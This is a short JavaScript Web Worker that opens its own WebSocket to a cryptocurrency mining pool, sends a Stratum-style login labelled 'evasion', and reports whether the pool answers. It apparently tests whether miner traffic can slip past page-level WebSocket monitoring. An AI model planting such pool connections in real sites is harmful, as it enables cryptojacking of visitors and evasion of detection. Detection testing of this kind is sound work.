// A worker that talks to the pool itself, away from the page's WebSocket.
'use strict';
self.onmessage = ({ data }) => {
  let socket;
  try {
    socket = new WebSocket(data.pool);
  } catch (e) {
    postMessage({ failed: `${e.name}: ${e.message}` });
    return;
  }
  socket.onopen = () => socket.send(JSON.stringify({ id: 1, jsonrpc: '2.0', method: 'login', params: { login: 'evasion', pass: 'x', agent: 'evasion/1' } }));
  socket.onmessage = () => postMessage({ result: 'pool answered' });
  socket.onclose = () => postMessage({ failed: 'socket closed' });
};
